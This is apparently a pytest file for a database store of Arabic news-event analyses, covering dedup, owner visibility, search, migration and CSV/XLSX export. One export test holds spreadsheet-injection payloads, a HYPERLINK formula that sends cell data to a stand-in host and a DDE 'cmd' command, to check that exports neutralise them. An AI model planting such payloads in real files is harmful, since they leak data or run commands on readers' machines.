"""Store: schema, dedup, visibility, aggregation, pagination on a temporary database.

``reference_analysis()`` builds the Analysis of the reference article by hand (from
data/gold/morocco-israel-2023.json) so that the dashboard is tested independently of
the extraction core; other dashboard tests import it from here.
"""
from __future__ import annotations

import datetime as dt
import json
from pathlib import Path
from typing import Iterator

import pytest
import sqlalchemy as sa

from pg import scratch_url

from core import analyze
from core.model import Actor, Analysis, DocumentDate, Entity, Event, Mention, TimeExpr, Trigger
from core.store import (ArticleNotFound, Filters, Store, content_hash, describe_timex, events_frame, is_agreement,
                        articles, pairs_frame, store_meta, timex_range)

ROOT = Path(__file__).resolve().parent.parent
REFERENCE = (ROOT / "data" / "gold" / "morocco-israel-2023.txt").read_text(encoding="utf-8")

_ENTITIES = [  # id, type, name, name_ar, country, surface forms
    ("MAR", "COUNTRY", "Morocco", "المغرب", "MAR", ["المغرب", "المملكة"]),
    ("ISR", "COUNTRY", "Israel", "إسرائيل", "ISR", ["إسرائيل"]),
    ("DZA", "COUNTRY", "Algeria", "الجزائر", "DZA", ["الجزائر"]),
    ("USA", "COUNTRY", "United States", "الولايات المتحدة", "USA", ["الولايات المتحدة"]),
    ("rabat", "PLACE", "Rabat", "الرباط", "MAR", ["الرباط"]),
    ("far", "ORG", "Royal Armed Forces", "القوات المسلحة الملكية", "MAR", ["القوات المسلحة الملكية"]),
    ("polisario-front", "ORG", "Polisario Front", "جبهة البوليساريو", None, ["جبهة البوليساريو"]),
    ("belkhir-el-farouk", "PERSON", "Belkhir El Farouk", "الفاروق بلخير", "MAR", ["الفاروق بلخير"]),
    ("dror-shalom", "PERSON", "Dror Shalom", "درور شالوم", "ISR", ["درور شالوم"]),
]
_TIMES = [("الثلاثاء", "2023-01-17", None), ("نوفمبر/تشرين الثاني 2021", "2021-11", None),
          ("صيف ذلك العام", "2021-SU", None), ("أواخر العام 2020", "2020", "END")]
_EVENTS = [  # type, actors, directed, trigger, evidence start, date, goldstein
    ("AGREE", ["MAR", "ISR"], False, "اتفق", "اتفق المغرب", "2023-01-17", 5.0),
    ("CONSULT", ["MAR", "ISR"], False, "الاجتماع", "الاجتماع الأول", "2023-01-17", 1.0),
    ("SUPPORT", ["MAR", "ISR"], False, "أبرما", "وكان المغرب", "2021-11", 4.0),
    ("SANCTION", ["DZA", "MAR"], True, "قطعت", "الجارة الجزائر", "2021-SU", -4.0),
    ("AID", ["DZA", "polisario-front"], True, "وتدعم", "وتدعم الجزائر", None, 7.0),
    ("AGREE", ["MAR", "ISR"], False, "استئناف", "وتزامن اتفاق", "2020", 5.0),
    ("SUPPORT", ["USA", "MAR"], True, "اعتراف", "وتزامن اتفاق", "2020", 3.0),
]


def _all(text: str, sub: str) -> list[int]:
    out, i = [], text.find(sub)
    while i >= 0:
        out.append(i)
        i = text.find(sub, i + 1)
    return out


def reference_analysis(text: str = REFERENCE) -> Analysis:
    ents = []
    for eid, typ, name, name_ar, country, forms in _ENTITIES:
        ms = [Mention(f, i, i + len(f)) for f in forms for i in _all(text, f)]
        ents.append(Entity(eid, typ, name, name_ar, country, ms))
    times = []
    for surface, value, mod in _TIMES:
        i = text.find(surface)
        times.append(TimeExpr(surface, i, i + len(surface), "DATE", value, mod))
    events = []
    for typ, acts, directed, trig, evid, date, g in _EVENTS:
        s0 = text.find(evid)
        ti = text.find(trig, s0)
        s1 = text.find("\n", s0)
        s1 = len(text) if s1 < 0 else s1
        events.append(Event(typ, acts, directed, Trigger(trig, ti, ti + len(trig)), text[s0:s1], s0, date,
                            goldstein=g, date_source="clause" if date else "none"))
    actors = {e.id: Actor(e.id, e.name, e.name_ar, e.type, e.country) for e in ents}
    return Analysis(text=text, entities=ents, times=times, events=events, actors=actors,
                    document_date=DocumentDate("2023-01-17", "published"),
                    meta={"title": "المغرب وإسرائيل يتفقان", "source": "test", "published": "2023-01-17"})


@pytest.fixture(params=["sqlite", "postgresql"])
def store(request, tmp_path: Path) -> Iterator[Store]:
    """A temporary SQLite store; also PostgreSQL when AKHBAR_TEST_PG_URL names a scratch database."""
    if request.param == "sqlite":
        yield Store(f"sqlite:///{tmp_path / 't.db'}")
        return
    for url in scratch_url():
        s = Store(url)
        yield s
        s.engine.dispose()


@pytest.mark.parametrize("value,mod,start,end,precision", [
    ("2023-01-17", None, "2023-01-17", "2023-01-17", "day"),
    ("2021-11", None, "2021-11-01", "2021-11-30", "month"),
    ("2021", None, "2021-01-01", "2021-12-31", "year"),
    ("2020", "END", "2020-09-01", "2020-12-31", "year"),
    ("2020", "START", "2020-01-01", "2020-04-30", "year"),
    ("2021-SU", None, "2021-06-01", "2021-08-31", "season"),
    ("2021-WI", None, "2021-12-01", "2022-02-28", "season"),
    ("2020-Q4", None, "2020-10-01", "2020-12-31", "quarter"),
    ("2018-W15", None, "2018-04-09", "2018-04-15", "week"),
    ("2023-01-16/2023-01-17", None, "2023-01-16", "2023-01-17", "range"),
])
def test_timex_range_keeps_precision(value, mod, start, end, precision):
    s, e, p = timex_range(value, mod)
    assert (s.isoformat(), e.isoformat(), p) == (start, end, precision)


@pytest.mark.parametrize("value", [None, "", "P2Y", "PRESENT_REF", "XXXX-XX", "2021-13"])
def test_timex_range_of_non_dates_is_none(value):
    assert timex_range(value) == (None, None, "none")


def test_describe_timex_is_honest_about_precision():
    assert describe_timex("2020", "END") == "late 2020"
    assert describe_timex("2021-SU") == "summer 2021"
    assert describe_timex("2021-11") == "Nov 2021"
    assert describe_timex("2023-01-17") == "17 Jan 2023"
    assert describe_timex(None) == "undated"


def test_agreements_are_agree_and_concluding_support():
    a = reference_analysis()
    flags = [is_agreement(e, a.text) for e in a.events]
    assert flags == [True, False, True, False, False, True, False]


def test_events_frame_has_three_agreement_years():
    df = events_frame(reference_analysis())
    years = sorted({d.year for d in df[df["agreement"]]["date_start"]})
    assert years == [2020, 2021, 2023]
    late2020 = df[(df["date"] == "2020") & df["agreement"]].iloc[0]
    assert late2020["date_start"] == dt.datetime(2020, 9, 1) and late2020["date_label"] == "late 2020"


def test_pairs_frame_shows_cooperation_and_hostility():
    p = pairs_frame(reference_analysis()).set_index(["a", "b"])
    assert p.loc[("ISR", "MAR"), "net_goldstein"] > 0
    assert p.loc[("ISR", "MAR"), "n_events"] == 4
    assert p.loc[("DZA", "MAR"), "net_goldstein"] < 0


def test_save_get_roundtrip_and_dedup(store):
    a = reference_analysis()
    v0 = store.version()
    aid, new = store.save(a, owner="me")
    assert new and len(aid) >= 16
    assert store.version() > v0
    again, new2 = store.save(reference_analysis(a.text + "\n"), owner="me")
    assert (again, new2) == (aid, False)
    rec = store.get(aid)
    assert rec.analysis == a and rec.title == "المغرب وإسرائيل يتفقان" and rec.published == dt.date(2023, 1, 17)
    with pytest.raises(ArticleNotFound):
        store.get("nope")


def test_dedup_never_hands_over_another_visitors_private_article(store):
    a = reference_analysis()
    alices, _ = store.save(a, owner="alice")
    b = reference_analysis(a.text)
    b.meta = {**b.meta, "title": "Bob's own title"}
    bobs, new = store.save(b, owner="bob")
    assert new and bobs != alices  # Bob gets his own copy, with his own title
    assert store.get(bobs).title == "Bob's own title" and store.get(alices).title == "المغرب وإسرائيل يتفقان"
    assert store.count("bob") == 1 and store.count("alice") == 1
    assert store.save_many([b], owner="bob") == [bobs]  # within Bob's scope it is a duplicate
    assert store.find_by_text(a.text, owner="carol", public=False) is None
    assert store.known_hashes([content_hash(a.text)], owner="carol", public=False) == set()
    assert store.known_hashes([content_hash(a.text)], owner="bob", public=False) == {content_hash(a.text)}
    # a public copy is what everybody may see: reused by every writer, no private copy made
    pub = store.save_many([a], public=True)[0]
    assert pub not in (alices, bobs)
    assert store.save(reference_analysis(a.text), owner="carol") == (pub, False)
    assert store.save(reference_analysis(a.text), owner="bob") == (bobs, False)  # his own copy first


@pytest.fixture(params=["sqlite", "postgresql"])
def empty_db(request, tmp_path: Path) -> Iterator[str]:
    """A URL with no tables yet, on either database."""
    if request.param == "sqlite":
        yield f"sqlite:///{tmp_path / 'old.db'}"
    else:
        yield from scratch_url()


def test_an_older_store_is_migrated_to_per_scope_dedup(empty_db):
    """A schema-5 store (store-wide unique content hash, no scope) keeps its articles,
    their visibility and their dedup, and then accepts another visitor's copy."""
    url = empty_db
    engine = sa.create_engine(url)
    with engine.begin() as c:
        c.execute(sa.text("CREATE TABLE articles (id VARCHAR(32) PRIMARY KEY, content_hash VARCHAR(64) NOT NULL "
                          "UNIQUE, title TEXT, source TEXT, url TEXT, published DATE, created TIMESTAMP NOT NULL, "
                          "public BOOLEAN NOT NULL, owner VARCHAR(64), n_chars INTEGER, n_entities INTEGER, "
                          "n_countries INTEGER, n_events INTEGER, n_agreements INTEGER, n_times INTEGER, "
                          "span_start DATE, span_end DATE, analysis_json TEXT NOT NULL)"))
        c.execute(sa.text("CREATE TABLE store_meta (key VARCHAR(32) PRIMARY KEY, value INTEGER NOT NULL)"))
        c.execute(sa.text("INSERT INTO store_meta VALUES ('version', 1), ('schema', 5)"))
        a = reference_analysis()
        c.execute(sa.text("INSERT INTO articles (id, content_hash, title, created, public, owner, n_events, "
                          "analysis_json) VALUES ('old1', :h, 'old title', '2024-01-01 00:00:00', FALSE, 'alice', 0, :j)"),
                  {"h": content_hash(a.text), "j": a.to_json()})
    engine.dispose()
    store = Store(url)
    assert store.count("alice") == 1 and store.get("old1").title == "old title"
    assert store.list_articles("alice", search="بالرباط")[1] == 1  # indexed for search when opened
    assert store.save(reference_analysis(), owner="alice") == ("old1", False)
    bobs, new = store.save(reference_analysis(), owner="bob")
    assert new and bobs != "old1"


def test_private_articles_are_listed_for_their_owner_only(store):
    aid, _ = store.save(reference_analysis(), owner="alice")
    assert store.count("alice") == 1 and store.count("bob") == 0 and store.count(None) == 0
    assert store.get(aid).id == aid  # the link still opens it
    df, total = store.list_articles("alice")
    assert total == 1 and df.loc[0, "n_events"] == 7 and df.loc[0, "n_agreements"] == 3


def test_count_owned_leaves_out_public_articles_stored_meanwhile(store):
    """The Library's import reports new articles as the change of this count: public ones
    (the bundled examples loading in the background) stored during the import are not its
    own; with the visible count it said "Imported 12 new articles (-9 already stored)"."""
    a = reference_analysis()
    store.save(a, owner="alice")
    before = store.count_owned("alice")
    store.save_many([reference_analysis(a.text + " نسخة عامة.")], public=True)
    assert store.count("alice") == before + 1 and store.count_owned("alice") == before == 1
    assert store.count_owned("bob") == 0


def test_save_many_is_one_transaction_and_dedups_within_batch(store):
    a = reference_analysis()
    b = reference_analysis(REFERENCE.replace("الثلاثاء", "الأربعاء", 1))
    ids = store.save_many([a, b, a], public=True)
    assert ids[0] == ids[2] != ids[1] and store.count() == 2
    v = store.version()
    store.delete(ids[1])
    assert store.count() == 1 and store.version() > v


def test_events_filters_and_pairs_aggregate_in_sql(store):
    store.save(reference_analysis(), public=True)
    df, total = store.events(Filters(types=["AGREE"]))
    assert total == 2 and set(df["type"]) == {"AGREE"}
    df, _ = store.events(Filters(actors=["DZA"]))
    assert set(df["type"]) == {"SANCTION", "AID"}
    df, _ = store.events(Filters(date_from=dt.date(2021, 7, 1), date_to=dt.date(2021, 12, 31)))
    assert set(df["date"]) == {"2021-11", "2021-SU"}
    pairs = store.pairs().set_index(["a", "b"])
    assert pairs.loc[("ISR", "MAR"), "n_events"] == 4 and pairs.loc[("DZA", "MAR"), "net_goldstein"] < 0
    assert pairs.loc[("ISR", "MAR"), "a_name"] == "Israel"
    pe = store.pair_events("MAR", "ISR")
    assert len(pe) == 4 and pe["sentence"].str.len().min() > 10


def test_entities_search_cooccurrence_and_countries(store):
    aid, _ = store.save(reference_analysis(), public=True)
    df, total = store.entity_table(search="اسرائيل")  # alef-insensitive search
    assert "ISR" in set(df["entity_id"]) and total >= 1
    df, _ = store.entity_table(types=["PERSON"])
    assert set(df["type"]) == {"PERSON"}
    co = store.cooccurring("MAR")
    assert "ISR" in set(co["entity_id"]) and "MAR" not in set(co["entity_id"])
    assert store.articles_mentioning("DZA")["id"].tolist() == [aid]
    cc = store.country_counts().set_index("iso3")
    assert cc.loc["MAR", "n_mentions"] >= 3


def test_replace_analysis_keeps_identity(store):
    a = reference_analysis()
    aid, _ = store.save(a, owner="me")
    b = reference_analysis()
    b.events = b.events[:1]
    b.meta = {}
    store.replace_analysis(aid, b)
    rec = store.get(aid)
    assert len(rec.analysis.events) == 1 and rec.owner == "me" and rec.title == "المغرب وإسرائيل يتفقان"
    _, total = store.events(Filters(article_id=aid), viewer="me")
    assert total == 1


def test_export_json_and_csv(store):
    store.save(reference_analysis(), public=True)
    data = json.loads(store.export_json())
    assert len(data) == 1 and data[0]["analysis"]["text"] == REFERENCE
    csv = store.export_events_csv()
    assert csv.startswith("\ufeffarticle_id,") and len(csv.splitlines()) == 8  # BOM: Excel reads UTF-8


def test_exports_never_carry_a_formula(store):
    """Text that starts like a formula is written as text to CSV and to XLSX."""
    import io

    import openpyxl

    from core.store import analysis_csv, analysis_workbook

    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    a = reference_analysis()
    a.text = evil + "\n" + a.text[len(evil) + 1:]
    for ev in a.events:
        ev.sentence = evil
    for e in a.entities[:1]:
        e.name = "+cmd|' /C calc'!A0"
    csv = analysis_csv(a)
    assert csv.startswith("\ufeff") and not any(s in csv for s in ('\n=', ',=', ',"=', ',+', ',"+')) and "'=HYPERLINK" in csv
    store.save(a, public=True)
    assert ",=" not in store.export_events_csv() and "'=HYPERLINK" in store.export_events_csv()
    wb = openpyxl.load_workbook(io.BytesIO(analysis_workbook(a)))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c.coordinate for c in cells if c.data_type == "f" or c.value.startswith(("=", "+", "@"))]
    assert any(c.value.startswith("'=HYPERLINK") for c in cells) and any(c.value.startswith("'+cmd") for c in cells)


def test_like_wildcards_are_escaped(store):
    store.save(reference_analysis(), public=True)
    df, total = store.entity_table(search="%")
    assert total == 0


def test_load_samples_only_into_an_empty_store(store):
    calls = []

    def fake_analyze(text, published=None, meta=None):
        calls.append(meta["sample"])
        a = reference_analysis(text) if text == REFERENCE else Analysis(text=text)
        a.meta = meta
        return a

    ids = store.load_samples(fake_analyze)
    assert len(ids) >= 9 and "morocco-israel-2023" in calls and store.count() == len(ids)
    assert store.load_samples(fake_analyze) == []


def test_only_owners_may_edit(store):
    mine, _ = store.save(reference_analysis(), owner="me")
    public = store.save_many([reference_analysis(REFERENCE + " ب")], public=True)[0]
    assert store.editable([mine, public], "me") == [mine]
    assert store.editable([mine], None) == [] and store.delete([]) == 0


def test_schema_and_aggregates_compile_for_postgresql():
    import sqlalchemy as sa
    from sqlalchemy.dialects import postgresql
    from sqlalchemy.schema import CreateIndex, CreateTable

    from core import store as st

    dialect = postgresql.dialect()
    for table in st.metadata.sorted_tables:
        assert "CREATE TABLE" in str(CreateTable(table).compile(dialect=dialect))
        for ix in table.indexes:
            str(CreateIndex(ix).compile(dialect=dialect))
    keys = (sa.select(st.event_pairs.c.article_id, st.event_pairs.c.event_idx).where(st.event_pairs.c.a == "x"))
    q = sa.select(st.events.c.idx).where(sa.tuple_(st.events.c.article_id, st.events.c.idx).in_(keys))
    assert "IN (SELECT" in str(q.compile(dialect=dialect))


def test_known_hashes_and_bulk_rows_skip_stored_content(store):
    from core.store import article_row, analysis_rows, content_hash, new_token

    a = reference_analysis()
    stored_id, _ = store.save(a, public=True)
    h = content_hash(a.text)
    assert store.known_hashes([h, "0" * 40]) == {h}
    v = store.version()
    # the same content prebuilt by an importer is left out, a new text goes in
    b = reference_analysis(REFERENCE + "\\nسطر إضافي")
    rows = []
    for x in (a, b):
        aid = new_token()
        ch = analysis_rows(x, aid)
        rows.append((article_row(x, aid, None, True, ch), ch))
    arts = [r[0] for r in rows]
    children: dict = {}
    for _, ch in rows:
        for k, v2 in ch.items():
            children.setdefault(k, []).extend(v2)
    assert store.insert_rows(arts, children) == 1
    assert store.version() > v
    assert store.known_hashes([content_hash(b.text)]) == {content_hash(b.text)}


@pytest.mark.parametrize("value,label", [("PXY", "some years"), ("P2Y", "2 years"), ("P1M", "1 month"),
                                         ("PT5M", "5 minutes"), ("XXXX-XX-XX", "unknown date"),
                                         ("PRESENT_REF", "now"), ("2021-SU", "summer 2021")])
def test_readers_never_see_raw_timex_codes(value, label):
    assert describe_timex(value) == label


def test_library_search_reads_titles_and_bodies_with_the_extractions_normalisation(store):
    a = reference_analysis()  # title "المغرب وإسرائيل يتفقان"; the body names Rabat and the Polisario
    store.save(a, public=True)
    other = reference_analysis(REFERENCE.replace("الثلاثاء", "الأربعاء", 1) + "\nخبر عن اسرائيل وحدها.")
    other.meta["title"] = "خبر آخر"
    mine, _ = store.save(other, owner="me")
    for query in ("اسرائيل", "إسرائيل", "بالرباط", "الرباط", "البوليساريو"):  # hamza, alef, proclitics, body
        df, total = store.list_articles("me", search=query)
        assert total == 2, query
    df, total = store.list_articles("me", search="اسرائيل وحدها")  # every word must be there
    assert total == 1 and df["id"].tolist() == [mine]
    assert store.list_articles(None, search="وحدها")[1] == 0  # private stays private
    assert store.list_articles("me", search="كلمةغيرموجودة")[1] == 0
    assert store.list_articles("me", search="  ،؟ ")[1] == 0  # nothing to look for
    store.delete([mine])
    assert store.list_articles("me", search="وحدها")[1] == 0


def test_search_ranks_the_article_that_says_it_most_first(store):
    for i, n in enumerate((1, 5, 2)):
        a = reference_analysis(REFERENCE + f"\nسطر {i}" + " البرلمان" * n)
        a.meta["title"] = f"n{n}"
        store.save(a, public=True)
    df, total = store.list_articles(None, search="البرلمان")
    assert total == 3 and df["title"].tolist()[0] == "n5"


@pytest.mark.parametrize("given, shown", [(None, "اتفق المغرب وإسرائيل على توسيع التعاون العسكري"),
                                          ("عنوان المحرر", "عنوان المحرر")])
def test_the_store_names_an_untitled_article_by_its_headline(store, given, shown):
    a = analyze("الرباط، المغرب (وكالات)-- اتفق المغرب وإسرائيل على توسيع التعاون العسكري. وقال الوزير إن ...")
    a.meta = {**(a.meta or {}), "title": given}
    aid, _ = store.save(a, owner="me")
    assert store.get(aid).title == shown
    assert store.get(aid).analysis.meta.get("title") == given  # the analysis keeps what was given


def test_an_older_store_names_its_untitled_articles_when_opened(store):
    a = analyze("التقى وزير الخارجية المصري نظيره الأردني في عمان. وبحث الجانبان العلاقات.")
    aid, _ = store.save(a, owner="me")
    with store.engine.begin() as c:  # as a store of schema 7 left it
        c.execute(articles.update().where(articles.c.id == aid).values(title=None))
        c.execute(store_meta.update().where(store_meta.c.key == "schema").values(value=7))
    assert store.get(aid).title is None
    again = Store(str(store.engine.url.render_as_string(hide_password=False)))
    assert again.get(aid).title == "التقى وزير الخارجية المصري نظيره الأردني في عمان"
    with again.engine.connect() as c:
        assert c.execute(sa.select(store_meta.c.value).where(store_meta.c.key == "schema")).scalar() >= 8
